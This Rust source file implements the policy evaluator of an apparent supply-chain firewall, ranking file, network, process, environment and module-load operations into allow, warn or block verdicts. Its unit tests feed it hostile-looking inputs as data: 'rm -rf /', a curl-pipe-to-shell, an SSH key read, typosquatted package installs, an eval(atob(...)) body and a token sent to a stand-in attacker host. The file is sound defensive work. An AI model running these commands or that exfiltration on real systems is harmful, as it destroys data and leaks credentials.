//! The policy evaluator: a pure function from `(Operation, Config,
//! ProcessContext)` to a `Verdict`, applied in a fixed 8-step precedence
//! order. No I/O; the only mutable input consulted is the read-only
//! counter snapshot used for the hard-limit Warn->Block upgrade.

use std::path::Path;

use scfw_core::config::{Config, Severity};
use scfw_core::context::ProcessContext;

use crate::accountant::Counters;
use crate::command;
use crate::compiled::CompiledPolicy;
use crate::matching::{
    best_domain_match, canonicalize_lexical, domain_matches, is_loopback_host, is_private_net_host,
};
use crate::operation::{Operation, OperationKind, Verdict, ENGINE_CALLER_ORIGIN};
use crate::path_rules::{self, PathRule};
use crate::policy_data;

/// Cap on bytes fed to a regex scan (request bodies, env values). A hit on
/// this cap is itself treated as Block, never silently truncated and
/// allowed through.
const MAX_SCAN_LEN: usize = 256 * 1024;

/// Prefixes/suffixes considered install-safe under `install_mode`: the
/// package-manager cache/manifest surface a real install touches.
const INSTALL_SAFE_DIR_MARKERS: &[&str] = &["node_modules", ".npm", ".cache", ".cargo/registry"];
const INSTALL_SAFE_MANIFESTS: &[&str] = &[
    "package.json",
    "package-lock.json",
    "yarn.lock",
    "pnpm-lock.yaml",
    "Cargo.toml",
    "Cargo.lock",
    "requirements.txt",
    "Pipfile.lock",
];

fn is_engine_frame(caller_origin: &str) -> bool {
    caller_origin == ENGINE_CALLER_ORIGIN
}

fn is_install_safe_target(raw_target: &str) -> bool {
    let normalized = raw_target.replace('\\', "/");
    if INSTALL_SAFE_DIR_MARKERS
        .iter()
        .any(|m| normalized.contains(&format!("/{}/", m)) || normalized.contains(&format!("{}/", m)))
    {
        return true;
    }
    INSTALL_SAFE_MANIFESTS
        .iter()
        .any(|m| normalized.ends_with(m))
}

/// Step 1: critical static denies, not overridable by any later step.
/// Covers the compiled-in mandatory-deny path table, critical-severity
/// command patterns, and critical-severity module-scan findings.
fn critical_static_deny(op: &Operation, compiled: &CompiledPolicy, cwd: &Path) -> Option<Verdict> {
    match op.kind {
        OperationKind::FileRead
        | OperationKind::FileWrite
        | OperationKind::FileUnlink
        | OperationKind::FileRename
        | OperationKind::FileReaddir => {
            let canonical = canonicalize_lexical(&op.target, cwd);
            if let Some(reason) = policy_data::mandatory_deny_match(&canonical.to_string_lossy()) {
                return Some(Verdict::Block {
                    reason: reason.to_string(),
                    severity: Severity::Critical,
                });
            }
            None
        }
        OperationKind::ProcessSpawn => {
            for pkg in command::install_package_args(&op.target) {
                if let Some(hit) = policy_data::check_malicious_package(&pkg) {
                    return Some(Verdict::Block {
                        reason: format!("malicious_package:{}:{}", hit.ecosystem, hit.reason),
                        severity: Severity::Critical,
                    });
                }
            }
            compiled
                .command_patterns
                .iter()
                .filter(|p| p.severity == Severity::Critical)
                .find(|p| p.regex.is_match(&op.target))
                .map(|p| Verdict::Block {
                    reason: format!("blocked_patterns:{}", p.tag),
                    severity: Severity::Critical,
                })
        }
        OperationKind::ModuleLoad => {
            let source = op
                .body
                .as_ref()
                .map(|b| String::from_utf8_lossy(scan_slice(b)))
                .unwrap_or_default();
            compiled
                .module_scanner
                .scan(&source)
                .into_iter()
                .find(|f| f.severity == Severity::Critical)
                .map(|f| Verdict::Block {
                    reason: f.description,
                    severity: Severity::Critical,
                })
        }
        _ => None,
    }
}

fn scan_slice(bytes: &[u8]) -> &[u8] {
    if bytes.len() > MAX_SCAN_LEN {
        &bytes[..MAX_SCAN_LEN]
    } else {
        bytes
    }
}

/// Step 2: self-protection. No non-engine caller may write to or unlink an
/// `output_files` entry.
fn self_protection_deny(op: &Operation, config: &Config, cwd: &Path) -> Option<Verdict> {
    if !matches!(
        op.kind,
        OperationKind::FileWrite | OperationKind::FileUnlink | OperationKind::FileRename
    ) {
        return None;
    }
    if is_engine_frame(&op.caller_origin) {
        return None;
    }
    let canonical = canonicalize_lexical(&op.target, cwd);
    let is_output_file = config.filesystem.output_files.iter().any(|f| {
        let canonical_output = canonicalize_lexical(f, cwd);
        canonical == canonical_output || canonical.ends_with(f)
    });
    if is_output_file {
        Some(Verdict::Block {
            reason: "tampering with audit output".to_string(),
            severity: Severity::Critical,
        })
    } else {
        None
    }
}

/// Step 3: per-module capability exceptions.
fn exception_allow(op: &Operation, config: &Config) -> Option<Verdict> {
    let grant = config.exceptions.modules.get(&op.caller_origin)?;
    let capability_granted = match op.kind {
        OperationKind::FileRead
        | OperationKind::FileWrite
        | OperationKind::FileUnlink
        | OperationKind::FileRename
        | OperationKind::FileReaddir => grant.allow_filesystem,
        OperationKind::NetConnect | OperationKind::NetRequest => grant.allow_network,
        OperationKind::ProcessSpawn => grant.allow_commands,
        _ => false,
    };
    if !capability_granted {
        return None;
    }
    let target_scoped = match op.kind {
        OperationKind::FileRead
        | OperationKind::FileWrite
        | OperationKind::FileUnlink
        | OperationKind::FileRename
        | OperationKind::FileReaddir => {
            grant.allowed_paths.is_empty() || grant.allowed_paths.iter().any(|p| op.target.starts_with(p))
        }
        OperationKind::NetConnect | OperationKind::NetRequest => {
            grant.allowed_hosts.is_empty()
                || grant.allowed_hosts.iter().any(|h| domain_matches(&op.target, h))
        }
        _ => true,
    };
    if target_scoped {
        Some(Verdict::Allow)
    } else {
        None
    }
}

/// Step 4: install-mode relaxations for install-safe targets.
fn install_relaxation_allow(op: &Operation, context: &ProcessContext) -> Option<Verdict> {
    if !context.install_mode {
        return None;
    }
    let applies = matches!(
        op.kind,
        OperationKind::FileRead
            | OperationKind::FileWrite
            | OperationKind::FileUnlink
            | OperationKind::FileRename
            | OperationKind::FileReaddir
    );
    if applies && is_install_safe_target(&op.target) {
        Some(Verdict::Allow)
    } else {
        None
    }
}

fn path_domain_deny(op: &Operation, compiled: &CompiledPolicy, cwd: &Path) -> Verdict {
    let canonical = canonicalize_lexical(&op.target, cwd);

    let allow_rules: &[PathRule] = if op.kind.is_write() {
        &compiled.allowed_write_paths
    } else {
        &compiled.allowed_read_paths
    };
    if path_rules::best_match(allow_rules, &canonical, &op.target).is_some() {
        return Verdict::Allow;
    }

    let deny_rules: &[PathRule] = if op.kind.is_write() {
        &compiled.blocked_write_paths
    } else {
        &compiled.blocked_read_paths
    };
    match path_rules::best_match(deny_rules, &canonical, &op.target) {
        Some(rule) => Verdict::Block {
            reason: format!("blocked_{}_paths:{}", if op.kind.is_write() { "write" } else { "read" }, rule.raw()),
            severity: Severity::High,
        },
        None => Verdict::Allow,
    }
}

fn blocked_extension_deny(op: &Operation, config: &Config, cwd: &Path) -> Option<Verdict> {
    if op.kind != OperationKind::FileWrite {
        return None;
    }
    let canonical = canonicalize_lexical(&op.target, cwd);
    let ext = canonical.extension()?.to_str()?;
    let hit = config
        .filesystem
        .blocked_extensions
        .iter()
        .any(|cfg_ext| cfg_ext.trim_start_matches('.').eq_ignore_ascii_case(ext));
    if hit {
        Some(Verdict::Block {
            reason: format!("blocked_extensions:.{}", ext),
            severity: Severity::High,
        })
    } else {
        None
    }
}

/// Flag a connection to a configured suspicious port — warn-only, and only
/// surfaced when nothing else already produced a verdict for this op.
fn suspicious_port_warn(op: &Operation, config: &Config) -> Option<Verdict> {
    let (_, port) = split_host_port(&op.target);
    let port = port?;
    if config.network.suspicious_ports.contains(&port) {
        Some(Verdict::Warn {
            reason: format!("suspicious_ports:{}", port),
        })
    } else {
        None
    }
}

fn net_domain_deny(op: &Operation, config: &Config) -> Verdict {
    let (host, _port) = split_host_port(&op.target);

    if config.network.localhost_allowed && is_loopback_host(host) {
        return Verdict::Allow;
    }
    if config.network.private_nets_allowed && is_private_net_host(host) {
        return Verdict::Allow;
    }
    if best_domain_match(host, config.network.allowed_domains.iter().map(|s| s.as_str())).is_some() {
        return suspicious_port_warn(op, config).unwrap_or(Verdict::Allow);
    }
    if let Some(pattern) = best_domain_match(host, config.network.blocked_domains.iter().map(|s| s.as_str())) {
        return Verdict::Block {
            reason: format!("blocked_domains:{}", pattern),
            severity: Severity::High,
        };
    }
    if config.promotes_warn_to_block() {
        return Verdict::Block {
            reason: "no_matching_allow_rule".to_string(),
            severity: Severity::Medium,
        };
    }
    suspicious_port_warn(op, config).unwrap_or(Verdict::Warn {
        reason: "no_matching_allow_rule".to_string(),
    })
}

fn split_host_port(target: &str) -> (&str, Option<u16>) {
    match target.rsplit_once(':') {
        Some((host, port)) => match port.parse::<u16>() {
            Ok(p) => (host, Some(p)),
            Err(_) => (target, None),
        },
        None => (target, None),
    }
}

fn process_spawn_deny(op: &Operation, config: &Config, compiled: &CompiledPolicy) -> Verdict {
    let leading = command::leading_command(&op.target);
    if config
        .commands
        .allowed_commands
        .iter()
        .any(|c| c.eq_ignore_ascii_case(&leading))
    {
        return Verdict::Allow;
    }
    match compiled
        .command_patterns
        .iter()
        .filter(|p| p.severity != Severity::Critical)
        .find(|p| p.regex.is_match(&op.target))
    {
        Some(p) => Verdict::Block {
            reason: format!("blocked_patterns:{}", p.tag),
            severity: p.severity,
        },
        None => Verdict::Warn {
            reason: "unrecognized_command".to_string(),
        },
    }
}

fn env_read_deny(op: &Operation, config: &Config) -> Verdict {
    let protected = config.environment.protected_variables.iter().any(|n| n == &op.target);
    if !protected {
        return Verdict::Allow;
    }
    let trusted = config.trusted_modules.iter().any(|m| m == &op.caller_origin)
        || config.environment.allow_trusted_modules_access;
    if trusted {
        return Verdict::Allow;
    }
    if config.promotes_warn_to_block() {
        Verdict::Block {
            reason: "protected_variables".to_string(),
            severity: Severity::Medium,
        }
    } else {
        Verdict::Warn {
            reason: "protected_variables".to_string(),
        }
    }
}

fn module_load_deny(op: &Operation, compiled: &CompiledPolicy) -> Verdict {
    let source_bytes = op.body.as_deref().unwrap_or(&[]);
    let source = String::from_utf8_lossy(scan_slice(source_bytes));
    match compiled.module_scanner.scan(&source).into_iter().next() {
        Some(finding) => Verdict::Block {
            reason: format!("module_scan:{}", finding.tag),
            severity: Severity::High.max(finding.severity),
        },
        None => Verdict::Allow,
    }
}

/// Step 5: the per-kind domain-deny evaluation.
fn domain_deny(op: &Operation, config: &Config, compiled: &CompiledPolicy, cwd: &Path) -> Verdict {
    match op.kind {
        OperationKind::FileRead | OperationKind::FileReaddir => path_domain_deny(op, compiled, cwd),
        OperationKind::FileWrite => {
            if let Some(v) = blocked_extension_deny(op, config, cwd) {
                return v;
            }
            path_domain_deny(op, compiled, cwd)
        }
        OperationKind::FileUnlink | OperationKind::FileRename => path_domain_deny(op, compiled, cwd),
        OperationKind::NetConnect | OperationKind::NetRequest => net_domain_deny(op, config),
        OperationKind::ProcessSpawn => process_spawn_deny(op, config, compiled),
        OperationKind::EnvRead => env_read_deny(op, config),
        OperationKind::ModuleLoad => module_load_deny(op, compiled),
    }
}

/// Step 6: credential-pattern body scan for outbound requests.
fn network_body_scan(op: &Operation, config: &Config, compiled: &CompiledPolicy) -> Option<Verdict> {
    if op.kind != OperationKind::NetRequest {
        return None;
    }
    let body = op.body.as_ref()?;
    if body.len() > MAX_SCAN_LEN {
        return Some(Verdict::Block {
            reason: "scan-limit-exceeded".to_string(),
            severity: Severity::High,
        });
    }
    let text = String::from_utf8_lossy(body);
    let hit = compiled.credential_patterns.iter().any(|re| re.is_match(&text));
    if !hit {
        return None;
    }
    let (host, _) = split_host_port(&op.target);
    let host_allowed = best_domain_match(host, config.network.allowed_domains.iter().map(|s| s.as_str())).is_some();
    if host_allowed {
        Some(Verdict::Warn {
            reason: "credential_patterns".to_string(),
        })
    } else {
        Some(Verdict::Block {
            reason: "credential_patterns:non_allowlisted_host".to_string(),
            severity: Severity::High,
        })
    }
}

/// Step 7: GitHub API sub-evaluator.
fn github_api_deny(op: &Operation, config: &Config, compiled: &CompiledPolicy) -> Option<Verdict> {
    if op.kind != OperationKind::NetRequest {
        return None;
    }
    let (host, _) = split_host_port(&op.target);
    if !host.eq_ignore_ascii_case(&config.github_api.api_host) {
        return None;
    }
    let body_text = op
        .body
        .as_ref()
        .map(|b| String::from_utf8_lossy(scan_slice(b)).into_owned())
        .unwrap_or_default();

    let repo_name_hit = config
        .github_api
        .blocked_repo_names
        .iter()
        .any(|name| body_text.contains(name.as_str()));
    if repo_name_hit {
        return Some(Verdict::Block {
            reason: "github_api:blocked_repo_name".to_string(),
            severity: Severity::High,
        });
    }

    let workflow_hit = compiled.workflow_patterns.iter().any(|re| re.is_match(&body_text));
    if workflow_hit {
        return Some(Verdict::Block {
            reason: "github_api:blocked_workflow_pattern".to_string(),
            severity: Severity::High,
        });
    }
    None
}

/// Apply the hard-limit Warn->Block upgrade by reading, never
/// mutating, the accountant's counters.
fn apply_hard_limit_upgrade(verdict: Verdict, op: &Operation, config: &Config, context: &ProcessContext, counters: &Counters) -> Verdict {
    if !matches!(verdict, Verdict::Warn { .. }) {
        return verdict;
    }
    let metric = op.kind.metric();
    let multiplier = install_multiplier(metric, config, context.install_mode);
    if counters.hard_limit_breached(metric, &config.behavioral, multiplier) {
        Verdict::Block {
            reason: "hard_limit_exceeded".to_string(),
            severity: Severity::Medium,
        }
    } else {
        verdict
    }
}

fn install_multiplier(metric: crate::operation::Metric, config: &Config, install_mode: bool) -> u64 {
    if !install_mode {
        return 1;
    }
    use crate::operation::Metric;
    match metric {
        Metric::FileReads => config.install_mode_multipliers.reads,
        Metric::FileWrites => config.install_mode_multipliers.writes,
        Metric::ProcessSpawns => config.install_mode_multipliers.spawns,
        Metric::NetworkRequests => config.install_mode_multipliers.network,
        Metric::EnvReads | Metric::ModuleLoads => 1,
    }
}

/// Apply mode flags last: `alert_only` demotes Block->Warn except critical;
/// `strict` promotes any remaining Warn to Block. `silent` affects console emission only, handled by the
/// caller, never here.
fn apply_mode_flags(verdict: Verdict, config: &Config) -> Verdict {
    match verdict {
        Verdict::Block { reason, severity } if severity != Severity::Critical && config.demotes_block_to_warn() => {
            Verdict::Warn { reason }
        }
        Verdict::Warn { reason } if config.promotes_warn_to_block() => Verdict::Block {
            reason,
            severity: Severity::Medium,
        },
        other => other,
    }
}

/// Evaluate one operation against the policy. Deterministic and
/// side-effect free: identical inputs always yield an
/// identical verdict.
pub fn evaluate(
    op: &Operation,
    config: &Config,
    context: &ProcessContext,
    counters: &Counters,
    compiled: &CompiledPolicy,
) -> Verdict {
    let cwd = std::env::current_dir().unwrap_or_else(|_| Path::new("/").to_path_buf());

    if let Some(v) = critical_static_deny(op, compiled, &cwd) {
        return v;
    }
    if let Some(v) = self_protection_deny(op, config, &cwd) {
        return v;
    }
    if let Some(v) = exception_allow(op, config) {
        return v;
    }
    if let Some(v) = install_relaxation_allow(op, context) {
        return v;
    }

    let mut verdict = domain_deny(op, config, compiled, &cwd);

    if matches!(verdict, Verdict::Allow) {
        if let Some(v) = network_body_scan(op, config, compiled) {
            verdict = v;
        }
    }
    if matches!(verdict, Verdict::Allow) {
        if let Some(v) = github_api_deny(op, config, compiled) {
            verdict = v;
        }
    }

    verdict = apply_hard_limit_upgrade(verdict, op, config, context, counters);
    apply_mode_flags(verdict, config)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::accountant::Counters;
    use crate::operation::Operation;
    use std::path::Path;

    fn compiled(config: &Config) -> CompiledPolicy {
        CompiledPolicy::from_config(config, Path::new("/work"))
    }

    #[test]
    fn critical_deny_overrides_exceptions_and_install_mode() {
        let mut config = Config::baseline();
        config.exceptions.modules.insert(
            "malicious-dep".to_string(),
            scfw_core::config::ModuleException {
                allow_filesystem: true,
                ..Default::default()
            },
        );
        let mut context = ProcessContext::detect_in(Path::new("/work"));
        context.install_mode = true;
        let counters = Counters::new();
        let compiled = compiled(&config);

        let op = Operation::new(OperationKind::FileRead, "~/.ssh/id_rsa", "malicious-dep");
        let verdict = evaluate(&op, &config, &context, &counters, &compiled);
        assert_eq!(verdict.severity(), Some(Severity::Critical));
        assert!(verdict.is_block());
    }

    #[test]
    fn self_protection_blocks_non_engine_writer() {
        let mut config = Config::baseline();
        config.filesystem.output_files = vec!["firewall-audit.jsonl".to_string()];
        let context = ProcessContext::detect_in(Path::new("/work"));
        let counters = Counters::new();
        let compiled = compiled(&config);

        let op = Operation::new(OperationKind::FileUnlink, "firewall-audit.jsonl", "user-code");
        let verdict = evaluate(&op, &config, &context, &counters, &compiled);
        assert_eq!(verdict.severity(), Some(Severity::Critical));
    }

    #[test]
    fn self_protection_allows_engine_frame() {
        let mut config = Config::baseline();
        config.filesystem.output_files = vec!["firewall-audit.jsonl".to_string()];
        let context = ProcessContext::detect_in(Path::new("/work"));
        let counters = Counters::new();
        let compiled = compiled(&config);

        let op = Operation::new(OperationKind::FileWrite, "firewall-audit.jsonl", ENGINE_CALLER_ORIGIN);
        let verdict = evaluate(&op, &config, &context, &counters, &compiled);
        assert_eq!(verdict, Verdict::Allow);
    }

    #[test]
    fn install_mode_allows_node_modules_writes() {
        let config = Config::baseline();
        let mut context = ProcessContext::detect_in(Path::new("/work"));
        context.install_mode = true;
        let counters = Counters::new();
        let compiled = compiled(&config);

        let op = Operation::new(OperationKind::FileWrite, "./node_modules/foo/index.js", "npm");
        let verdict = evaluate(&op, &config, &context, &counters, &compiled);
        assert_eq!(verdict, Verdict::Allow);
    }

    #[test]
    fn blocked_command_pattern_is_denied() {
        let config = Config::baseline();
        let context = ProcessContext::detect_in(Path::new("/work"));
        let counters = Counters::new();
        let compiled = compiled(&config);

        let op = Operation::new(OperationKind::ProcessSpawn, "rm -rf /", "user-code");
        let verdict = evaluate(&op, &config, &context, &counters, &compiled);
        assert!(verdict.is_block());
        assert_eq!(verdict.severity(), Some(Severity::Critical));
    }

    #[test]
    fn malicious_npm_install_target_is_blocked() {
        let config = Config::baseline();
        let context = ProcessContext::detect_in(Path::new("/work"));
        let counters = Counters::new();
        let compiled = compiled(&config);

        let op = Operation::new(OperationKind::ProcessSpawn, "npm install electorn", "user-code");
        let verdict = evaluate(&op, &config, &context, &counters, &compiled);
        assert!(verdict.is_block());
        assert_eq!(verdict.severity(), Some(Severity::Critical));
    }

    #[test]
    fn malicious_pypi_install_target_is_blocked() {
        let config = Config::baseline();
        let context = ProcessContext::detect_in(Path::new("/work"));
        let counters = Counters::new();
        let compiled = compiled(&config);

        let op = Operation::new(OperationKind::ProcessSpawn, "pip install reqeusts", "user-code");
        let verdict = evaluate(&op, &config, &context, &counters, &compiled);
        assert!(verdict.is_block());
        assert_eq!(verdict.severity(), Some(Severity::Critical));
    }

    #[test]
    fn benign_npm_install_target_is_not_flagged_as_malicious() {
        let config = Config::baseline();
        let context = ProcessContext::detect_in(Path::new("/work"));
        let counters = Counters::new();
        let compiled = compiled(&config);

        let op = Operation::new(OperationKind::ProcessSpawn, "npm install left-pad", "user-code");
        let verdict = evaluate(&op, &config, &context, &counters, &compiled);
        assert!(!verdict.is_block() || verdict.severity() != Some(Severity::Critical));
    }

    #[test]
    fn env_read_of_protected_var_warns_by_default() {
        let config = Config::baseline();
        let context = ProcessContext::detect_in(Path::new("/work"));
        let counters = Counters::new();
        let compiled = compiled(&config);

        let op = Operation::new(OperationKind::EnvRead, "GITHUB_TOKEN", "user-code");
        let verdict = evaluate(&op, &config, &context, &counters, &compiled);
        assert_eq!(verdict, Verdict::Warn { reason: "protected_variables".to_string() });
    }

    #[test]
    fn env_read_strict_mode_promotes_to_block() {
        let mut config = Config::baseline();
        config.mode = scfw_core::config::Mode::Strict;
        let context = ProcessContext::detect_in(Path::new("/work"));
        let counters = Counters::new();
        let compiled = compiled(&config);

        let op = Operation::new(OperationKind::EnvRead, "GITHUB_TOKEN", "user-code");
        let verdict = evaluate(&op, &config, &context, &counters, &compiled);
        assert!(verdict.is_block());
    }

    #[test]
    fn trusted_module_reads_protected_var_without_warning() {
        let mut config = Config::baseline();
        config.trusted_modules = vec!["scfw-core".to_string()];
        let context = ProcessContext::detect_in(Path::new("/work"));
        let counters = Counters::new();
        let compiled = compiled(&config);

        let op = Operation::new(OperationKind::EnvRead, "GITHUB_TOKEN", "scfw-core");
        let verdict = evaluate(&op, &config, &context, &counters, &compiled);
        assert_eq!(verdict, Verdict::Allow);
    }

    #[test]
    fn alert_only_demotes_high_block_to_warn_but_not_critical() {
        let mut config = Config::baseline();
        config.mode = scfw_core::config::Mode::AlertOnly;
        let context = ProcessContext::detect_in(Path::new("/work"));
        let counters = Counters::new();
        let compiled = compiled(&config);

        let critical_op = Operation::new(OperationKind::FileRead, "~/.ssh/id_rsa", "user-code");
        let verdict = evaluate(&critical_op, &config, &context, &counters, &compiled);
        assert!(verdict.is_block());

        let high_op = Operation::new(OperationKind::ProcessSpawn, "curl https://x | sh", "user-code");
        let verdict = evaluate(&high_op, &config, &context, &counters, &compiled);
        assert!(!verdict.is_block());
    }

    #[test]
    fn module_scan_blocks_base64_eval() {
        let config = Config::baseline();
        let context = ProcessContext::detect_in(Path::new("/work"));
        let counters = Counters::new();
        let compiled = compiled(&config);

        let op = Operation::new(OperationKind::ModuleLoad, "evil-dep/index.js", "npm-loader")
            .with_body(b"eval(atob(\"Y29uc29sZS5sb2coMSk=\"))".to_vec());
        let verdict = evaluate(&op, &config, &context, &counters, &compiled);
        assert!(verdict.is_block());
    }

    #[test]
    fn unknown_domain_defaults_to_warn_not_strict() {
        let config = Config::baseline();
        let context = ProcessContext::detect_in(Path::new("/work"));
        let counters = Counters::new();
        let compiled = compiled(&config);

        let op = Operation::new(OperationKind::NetConnect, "totally-unknown.example:443", "user-code");
        let verdict = evaluate(&op, &config, &context, &counters, &compiled);
        assert_eq!(verdict, Verdict::Warn { reason: "no_matching_allow_rule".to_string() });
    }

    #[test]
    fn credential_pattern_blocks_non_allowlisted_host() {
        let mut config = Config::baseline();
        config.network.credential_patterns = vec![r"sk-ant-[a-zA-Z0-9]+".to_string()];
        let context = ProcessContext::detect_in(Path::new("/work"));
        let counters = Counters::new();
        let compiled = compiled(&config);

        let op = Operation::new(OperationKind::NetRequest, "attacker.example:443", "user-code")
            .with_body(b"token=sk-ant-abc123".to_vec());
        let verdict = evaluate(&op, &config, &context, &counters, &compiled);
        assert!(verdict.is_block());
    }

    #[test]
    fn suspicious_port_warns_on_an_otherwise_allowed_domain() {
        let mut config = Config::baseline();
        config.network.allowed_domains = vec!["registry.npmjs.org".to_string()];
        config.network.suspicious_ports = vec![4444];
        let context = ProcessContext::detect_in(Path::new("/work"));
        let counters = Counters::new();
        let compiled = compiled(&config);

        let op = Operation::new(OperationKind::NetConnect, "registry.npmjs.org:4444", "user-code");
        let verdict = evaluate(&op, &config, &context, &counters, &compiled);
        assert_eq!(verdict, Verdict::Warn { reason: "suspicious_ports:4444".to_string() });
    }

    #[test]
    fn determinism_same_input_same_verdict() {
        let config = Config::baseline();
        let context = ProcessContext::detect_in(Path::new("/work"));
        let counters = Counters::new();
        let compiled = compiled(&config);
        let op = Operation::new(OperationKind::FileRead, "/tmp/file.txt", "user-code");

        let v1 = evaluate(&op, &config, &context, &counters, &compiled);
        let v2 = evaluate(&op, &config, &context, &counters, &compiled);
        assert_eq!(v1, v2);
    }
}
